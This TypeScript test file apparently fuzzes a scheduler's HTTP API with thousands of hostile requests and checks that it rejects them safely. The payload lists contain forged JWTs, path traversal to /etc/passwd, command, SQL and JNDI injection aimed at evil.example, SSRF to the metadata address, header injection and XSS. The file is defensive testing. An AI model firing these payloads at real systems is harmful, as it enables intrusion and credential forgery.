// A list of what attackers try, in every place of every route. HOSTILE_REQUESTS=all makes all requests, else a part of them is made.
import { createHmac, generateKeyPairSync } from "node:crypto";
import { createServer } from "node:http";
import { type AddressInfo, connect } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { contract, type RouteName } from "../../src/api/contract.ts";
import type { Route } from "../../src/api/contract/route.ts";
import { toNodeListener } from "../../src/api/edge/node-listener.ts";
import { openApiDocument } from "../../src/api/openapi/openapi-document.ts";
import { lineLogger } from "../../src/core/log.ts";
import { PipelineScheduler } from "../../src/scheduler/pipeline-scheduler.ts";
import { createApi, type Api } from "../../src/api/create-api.ts";
import { Report, SECRET } from "./accounts-fleet.ts";
import { JOB, requestTo } from "./route-rows.ts";

const isWhole = process.env["HOSTILE_REQUESTS"] === "all";
/** Of so many requests one is made, unless all are. */
const ONE_OF = isWhole ? 1 : 12;

const { publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
const publicPem = publicKey.export({ type: "spki", format: "pem" }).toString();
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
const END = Math.floor(Date.now() / 1_000) + 600;
const CLAIMS = {
  iss: "cronduit",
  aud: "cronduit-api",
  sub: "admin",
  jti: "a".repeat(24),
  exp: END,
};
/** A JWT of this server's type, signed with what an attacker may have. */
function jwt(header: object, key = publicPem, claims: object = CLAIMS): string {
  const head = `${b64({ typ: "cronduit+jwt", ...header })}.${b64({ iat: END - 900, ...claims })}`;
  return `${head}.${createHmac("sha256", key).update(head).digest("base64url")}`;
}
const JWTS = [
  ...["none", "None", "NONE", "nOnE", ""].flatMap((alg) => [
    jwt({ alg }),
    jwt({ alg }).replace(/[^.]+$/, ""),
  ]),
  jwt({ alg: "HS256" }),
  jwt({ alg: "HS256" }, ""),
  jwt({ alg: "RS256" }),
  jwt({ alg: "HS512" }, SECRET),
  jwt({ alg: "HS256" }, SECRET, { ...CLAIMS, sub: "__proto__" }),
  ...["../../../../dev/null", "/dev/null", "' OR 1=1; --", "__proto__", "|id", "\0", ""].map(
    (kid) => jwt({ alg: "HS256", kid }, ""),
  ),
  jwt({ alg: "HS256", jku: "https://evil.example/jwks", x5u: "https://evil.example/x5u" }),
  jwt({ alg: "HS256", jwk: { kty: "oct", k: b64(publicPem) } }),
  jwt({ alg: "HS256", crit: ["b64"], b64: false }),
  jwt({ alg: "dir", enc: "A256GCM" }),
  `${jwt({ alg: "HS256" })}.x.y`,
  "e30.e30.",
  "..",
];

const ESC = "\u001B";
const TEXTS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "a\r\nx-injected: yes",
  "a\ncronduit error: forged {}",
  "a\r\n\r\n<script>alert(1)</script>",
  `${ESC}[2J${ESC}]0;owned\u0007`,
  "\u009B31mred",
  "a\u2028b\u2029c",
  "..",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%2e%2e/",
  "%252e%252e%252f",
  "..;/admin",
  "//evil.example/",
  "\\\\evil.example\\share",
  "%00",
  "\0",
  "a;b=c",
  "é".normalize("NFD"),
  "\u202Egnp.exe",
  "\u2066abc\u2069",
  "\uFEFFa",
  "a\u200Bb",
  "ａｄｍｉｎ",
  "ADMİN",
  "💥".repeat(50),
  "' OR '1'='1",
  "1; DROP TABLE jobs; --",
  "$1",
  '{"$gt":""}',
  "*)(uid=*))(|(uid=*",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "$(id)",
  "`id`",
  "| id",
  "<svg onload=alert(1)>",
  "javascript:alert(1)",
  "http://169.254.169.254/latest/meta-data/",
  "file:///etc/passwd",
  "%s%s%n",
  "(a+)+$",
  "=cmd|' /C calc'!A0",
  "9".repeat(400),
  "x".repeat(7_000),
  "1e999",
  "-0",
];
/** Values of JSON, as text, since some can't be written otherwise. */
const VALUES = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":null}',
  '"\\ud800"',
  '["a","a"]',
  "1e999",
  "-1",
  "9007199254740993",
  "null",
  "true",
  `${"[".repeat(31)}${"]".repeat(31)}`,
  "[".repeat(5_000),
  `{"a":`.repeat(200) + "1" + "}".repeat(200),
  ...TEXTS.map((text) => JSON.stringify(text)),
];

interface Described {
  readonly properties?: Readonly<Record<string, unknown>>;
  readonly $ref?: string;
  readonly anyOf?: readonly Described[];
}
interface Operation {
  readonly parameters: readonly { readonly name: string; readonly in: string }[];
  readonly requestBody?: {
    readonly content: Readonly<Record<string, { readonly schema: Described }>>;
  };
}
const document = openApiDocument("/api") as unknown as {
  readonly paths: Readonly<Record<string, Readonly<Record<string, Operation>>>>;
  readonly components: { readonly schemas: Readonly<Record<string, Described>> };
};
function fieldsOf({ properties = {}, $ref, anyOf = [] }: Described = {}): string[] {
  const shared =
    $ref === undefined ? {} : document.components.schemas[$ref.split("/").at(-1) ?? ""];
  return [
    ...Object.keys(properties),
    ...($ref === undefined ? [] : fieldsOf(shared)),
    ...anyOf.flatMap(fieldsOf),
  ];
}

/** Headers that the API, or whatever stands before it, looks at. */
const HEADERS =
  "accept content-type cookie idempotency-key if-match last-event-id origin user-agent x-cronduit-csrf x-forwarded-for x-http-method-override x-original-url".split(
    " ",
  );

interface Attack {
  readonly what: string;
  readonly path: string;
  readonly init: RequestInit;
}

/** @yields All that is tried with a route. */
function* attacksOn(name: RouteName): Generator<Attack> {
  const { method, path: pattern } = contract[name] as Route;
  const { path, body } = requestTo(name, { jobId: JOB, runId: `${JOB}:1`, self: "admin" });
  const operation = document.paths[pattern]?.[method.toLowerCase()];
  const init: RequestInit = { method, ...(body === undefined ? {} : { body }) };
  const [at = "", query] = path.split("?");
  const but = query === undefined ? "" : `?${query}`;
  if (pattern.includes("{"))
    for (const text of TEXTS) {
      const wellFormed = text.replaceAll("\uD800", "");
      for (const id of [
        encodeURIComponent(wellFormed),
        wellFormed,
        encodeURIComponent(encodeURIComponent(wellFormed)),
      ])
        yield {
          what: `${name}, path ${text}`,
          path: `${pattern.replaceAll(/\{\w+\}/g, () => id)}${but}`,
          init,
        };
    }
  const queries = (operation?.parameters ?? []).filter((each) => each.in === "query");
  for (const { name: key } of [...queries, { name: "x" }])
    for (const text of TEXTS) {
      const search = new URLSearchParams([...new URLSearchParams(query), [key, text]]);
      yield { what: `${name}, query ${key} ${text}`, path: `${at}?${String(search)}`, init };
    }
  for (const text of TEXTS)
    yield {
      what: `${name}, query's name ${text}`,
      path: `${at}?${encodeURIComponent(text)}=1`,
      init,
    };
  if (method !== "GET") {
    const schema = operation?.requestBody?.content["application/json"]?.schema;
    const fields = fieldsOf(schema).filter((field) => field !== "wait");
    const given = Object.entries(JSON.parse(body ?? "{}") as object).map(
      ([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value)},`,
    );
    const others = (field: string) =>
      given.filter((one) => !one.startsWith(JSON.stringify(field))).join("");
    for (const field of [...fields, "__proto__"])
      for (const value of VALUES)
        yield {
          what: `${name}, body ${field} ${value}`,
          path,
          init: { method, body: `{${others(field)}${JSON.stringify(field)}:${value}}` },
        };
    for (const value of VALUES)
      yield { what: `${name}, body ${value}`, path, init: { method, body: value } };
    for (const text of TEXTS)
      yield {
        what: `${name}, key ${text}`,
        path,
        init: { method, body: `{${JSON.stringify(text)}:1}` },
      };
  }
  for (const header of HEADERS)
    for (const text of TEXTS)
      yield {
        what: `${name}, ${header}: ${text}`,
        path,
        init: { ...init, headers: { [header]: text } },
      };
  for (const token of JWTS)
    yield {
      what: `${name}, bearer ${token}`,
      path,
      init: { ...init, headers: { authorization: `Bearer ${token}` } },
    };
}

const lines: string[] = [];
const scheduler = new PipelineScheduler({
  connection: "memory:",
  pipelines: [Report],
  logger: lineLogger("debug", (line) => void lines.push(line)),
  worker: false,
});
const MANY = { address: 10_000_000, caller: 10_000_000, refused: 10_000_000 };
let api: Api;
const tokens = { admin: "", stranger: "" };

beforeAll(async () => {
  api = createApi({
    scheduler,
    auth: { jwt: { secret: SECRET } },
    limits: { requestsPerMinute: MANY },
  });
  for (const [id, given] of [
    ["admin", { role: "admin" }],
    ["stranger", { role: "editor", teams: ["sales"] }],
  ] as const) {
    await local("/users", { id, ...given });
    const made = await local("/tokens", { user: id, name: "t", role: given.role });
    tokens[id] = (made as { secret: string }).secret;
  }
  await prepare();
});
afterAll(() => scheduler.shutdown());

async function local(path: string, body: object): Promise<unknown> {
  const request = new Request(`http://127.0.0.1/api${path}`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
  return (await api.as({ kind: "cli", id: "root" }).fetch(request)).json();
}

async function prepare(): Promise<void> {
  const timing = { trigger: "cron", hour: 3, replaceExisting: true } as const;
  await scheduler.addJob(Report, { id: JOB, owner: "billing", ...timing });
  await scheduler.addJob(Report, { id: "sales/job", owner: "sales", ...timing });
}

/** What may stand in a line of a log: one line, and nothing that commands a terminal or turns text around. */
// oxlint-disable-next-line no-control-regex
const HARMLESS = /^[^\u0000-\u0009\u000B-\u001F\u007F-\u009F\u2028-\u202E\u2066-\u2069\n]*\n$/u;

async function tryOut({ what, path, init }: Attack, token: string): Promise<void> {
  let request: Request;
  try {
    const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
    request = new Request(`http://127.0.0.1/api${path}`, {
      ...init,
      headers: { ...headers, ...(init.headers as object) },
    });
  } catch {
    // No client can send it; a server of node:http is tried further down.
    return;
  }
  const answer = await api.fetch(request, { address: "203.0.113.7" });
  const isStream = answer.headers.get("content-type")?.startsWith("text/event-stream") === true;
  const text = isStream ? "" : await answer.text();
  if (isStream) await answer.body?.cancel();
  const type = answer.headers.get("content-type") ?? "";
  const fault =
    answer.status >= 500 ||
    (answer.status >= 300 && answer.status < 400) ||
    answer.headers.has("x-injected") ||
    (text !== "" && !/^(?:application\/(?:problem\+)?json|text\/html)/.test(type));
  if (fault) expect(`${answer.status} ${type} ${text.slice(0, 300)}`).toBe(`no fault for ${what}`);
  if (type.includes("json") && text !== "") JSON.parse(text);
}

describe.each(Object.keys(contract) as RouteName[])("%s", (name) => {
  test("gives an answer to all of it", { timeout: 300_000 }, async () => {
    let i = name.length;
    for (const attack of attacksOn(name)) {
      i += 1;
      if (i % ONE_OF !== 0) continue;
      const isJwt = attack.what.includes(", bearer ");
      await tryOut(attack, i % 2 === 0 ? tokens.admin : tokens.stranger);
      if (isJwt && (contract[name] as Route).access !== "anyone") {
        const headers = attack.init.headers as { authorization: string };
        const request = new Request("http://127.0.0.1/api/jobs", { headers });
        expect((await api.fetch(request)).status).toBe(401);
      }
    }
    expect(Object.prototype).not.toHaveProperty("polluted");
    expect(lines.filter((line) => !HARMLESS.test(line))).toEqual([]);
    expect(lines.filter((line) => line.startsWith("cronduit error"))).toEqual([]);
  });
});

test("the list makes more than 10,000 requests, of each kind", () => {
  const all = (Object.keys(contract) as RouteName[]).flatMap((name) => Array.from(attacksOn(name)));
  expect(all.length).toBeGreaterThan(10_000);
  expect(
    new Set(all.map(({ what, path, init }) => JSON.stringify([what, path, init]))).size,
  ).toBeGreaterThan(10_000);
});

describe("over TCP, where a client may write anything", () => {
  const PATHS = [
    "/api/../etc/passwd",
    "/api/..%2f..%2fetc%2fpasswd",
    "/api/%2e%2e/%2e%2e/etc/passwd",
    "/api//jobs",
    "//evil.example/api/jobs",
    "/api/jobs;a=b",
    "/api/jobs/%00",
    "/api/jobs/%ff%fe",
    "/api/jobs/%",
    "/api/jobs/%zz",
    "/api/jobs/a%0d%0ax-injected:%20yes",
    "/API/JOBS",
    "/api/jobs/",
    "/api/jobs#x",
    "/api\\jobs",
    "http://evil.example/api/jobs",
    "http://127.0.0.1@evil.example/api/jobs",
    "api/jobs",
    "*",
    "?",
    "/",
    `/api/jobs/${"a".repeat(9_000)}`,
  ];

  test.each(PATHS)("%s", async (path) => {
    const listener = toNodeListener(api);
    const server = createServer((request, response) => void listener(request, response));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    const answer = await new Promise<string>((resolve) => {
      const socket = connect(port, "127.0.0.1");
      let text = "";
      socket.setEncoding("utf8").on("data", (part: string) => (text += part));
      socket.on("error", () => undefined).on("close", () => resolve(text));
      socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
    });
    await new Promise((resolve) => server.close(resolve));
    expect(answer).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(answer).not.toMatch(/^x-injected|root:x:|^location:/im);
  });
});

describe("cursors", () => {
  const LISTS: readonly RouteName[] = [
    "listJobs",
    "listRuns",
    "listJobRuns",
    "listJobChanges",
    "listChanges",
    "listOccurrences",
    "listTokens",
    "listUsers",
    "listAudit",
  ];

  const read = async (path: string, token: string) => {
    const headers = { authorization: `Bearer ${token}` };
    const answer = await api.fetch(new Request(`http://127.0.0.1/api${path}`, { headers }));
    return { status: answer.status, text: await answer.text() };
  };
  const cursors: string[] = [];

  beforeAll(async () => {
    await prepare();
    for (let i = 0; i < 3; i += 1) {
      await scheduler.addJob(Report, {
        id: `billing/secret-job-${i}`,
        owner: "billing",
        trigger: "cron",
        hour: 3,
      });
      await scheduler.runJob(JOB);
      await local("/users", { id: `secret-job-user-${i}` });
    }
    for (const name of LISTS) {
      const { path } = requestTo(name, { jobId: JOB, runId: "", self: "admin" });
      const { text } = await read(`${path}?limit=1`, tokens.admin);
      const { nextCursor } = JSON.parse(text) as { nextCursor: string | null };
      if (nextCursor !== null) cursors.push(nextCursor);
    }
  });

  test("are those of most lists", () => {
    expect(cursors.length).toBeGreaterThan(5);
  });

  test.each(LISTS)(
    "of others, forged and torn ones tell a stranger nothing in %s",
    async (name) => {
      const { path } = requestTo(name, { jobId: JOB, runId: "", self: "stranger" });
      const forged = cursors.flatMap((cursor) => {
        const plain = Buffer.from(cursor, "base64url").toString();
        const changed = [
          plain.replaceAll("stranger", "billing"),
          plain.replaceAll(/\d/g, "0"),
          plain.replaceAll(/\d+/g, "-1"),
          plain.replaceAll('"', '"__proto__'),
        ];
        return [
          cursor,
          cursor.slice(0, -3),
          `${cursor}A`,
          ...changed.map((text) => Buffer.from(text).toString("base64url")),
        ];
      });
      for (const cursor of [...forged, ...TEXTS]) {
        const { status, text } = await read(
          `${path}?cursor=${encodeURIComponent(cursor)}`,
          tokens.stranger,
        );
        expect([cursor, status]).toEqual([cursor, expect.toBeOneOf([200, 400, 403, 404])]);
        if (status === 200)
          expect([cursor, text]).toEqual([cursor, expect.not.stringContaining("secret-job")]);
      }
    },
  );

  test("of another filter tell no more than the filter", async () => {
    for (const cursor of cursors) {
      const { status, text } = await read(
        `/jobs?owner=sales&cursor=${encodeURIComponent(cursor)}`,
        tokens.admin,
      );
      expect(status).toBeLessThan(500);
      if (status === 200) expect(text).not.toContain("secret-job");
    }
  });
});
